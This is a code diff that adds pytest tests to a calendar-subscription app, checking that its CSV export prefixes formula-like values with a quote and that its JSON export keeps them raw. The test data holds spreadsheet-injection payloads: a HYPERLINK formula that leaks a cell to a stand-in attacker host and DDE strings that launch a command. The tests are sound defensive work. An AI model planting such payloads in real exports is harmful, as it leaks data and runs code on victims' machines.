@@ -21,6 +21,7 @@ from calcast.events.models import PersonalEventTarget
 from calcast.outbox.models import OutboxMessage
 from calcast.subscriptions import service as subscriptions
 from calcast.subscriptions.capture import capture
+from calcast.subscriptions.cli import spreadsheet_cell
 from calcast.subscriptions.models import Subscription
 from calcast.webhooks import service as webhooks
 from calcast.webhooks.models import WebhookDelivery
@@ -63,6 +64,55 @@ def test_the_subscriber_list_exports_as_csv_and_json_lines(cli: Any, database: D
     lines = cli("export", "subscribers", "owner", "--calendar", "main", "--format", "jsonl").stdout.splitlines()
     assert [json.loads(line)["subscriber_id"] for line in lines] == ["u1", None]
     assert cli("export", "subscribers", "owner", "--calendar", "nope").exit_code == 1
+
+
+def test_values_a_spreadsheet_would_run_as_formulas_are_escaped_in_csv_and_kept_raw_in_json_lines(
+    cli: Any, database: Database, owner: Persona
+) -> None:
+    hostile = capture(
+        utm_source='=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
+        utm_medium="+1+cmd|' /C calc'!A0",
+        utm_campaign="-2+3",
+        utm_content="@SUM(1+1)*cmd|' /C calc'!A0",
+    )
+    subscribe(database, "owner", subscriber_id="u1", capture=hostile)
+    subscribe(database, "owner", subscriber_id="=1+1")
+    subscribe(database, "owner", subscriber_id="plain-2024", capture=capture(utm_campaign="spring=sale"))
+
+    rows = list(csv.DictReader(io.StringIO(cli("export", "subscribers", "owner").stdout, newline="")))
+    first = rows[0]
+    assert first["utm_source"] == '\'=HYPERLINK("https://evil.example/?leak="&A2,"Click")'
+    assert first["source"] == first["utm_source"]
+    assert first["utm_medium"] == "'+1+cmd|' /C calc'!A0"
+    assert first["utm_campaign"] == "'-2+3"
+    assert first["utm_content"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert [row["subscriber_id"] for row in rows[1:]] == ["'=1+1", "plain-2024"]
+    assert rows[2]["utm_campaign"] == "spring=sale", "only a value that starts like a formula changes"
+    assert rows[2]["created_at"][:2] == "20"
+
+    exported = cli("export", "subscribers", "owner", "--format", "jsonl").stdout
+    lines = [json.loads(line) for line in exported.splitlines()]
+    assert lines[0]["utm_source"] == '=HYPERLINK("https://evil.example/?leak="&A2,"Click")'
+    assert lines[0]["utm_campaign"] == "-2+3"
+    assert lines[1]["subscriber_id"] == "=1+1"
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        (["-Team", "Team I"], "'-Team|Team I"),
+        ("a=1", "a=1"),
+        (None, ""),
+    ],
+)
+def test_a_csv_cell_never_starts_like_a_formula(value: Any, cell: str) -> None:
+    assert spreadsheet_cell(value) == cell
 
 
 def test_a_person_export_holds_everything_stored_about_them_and_nobody_else(
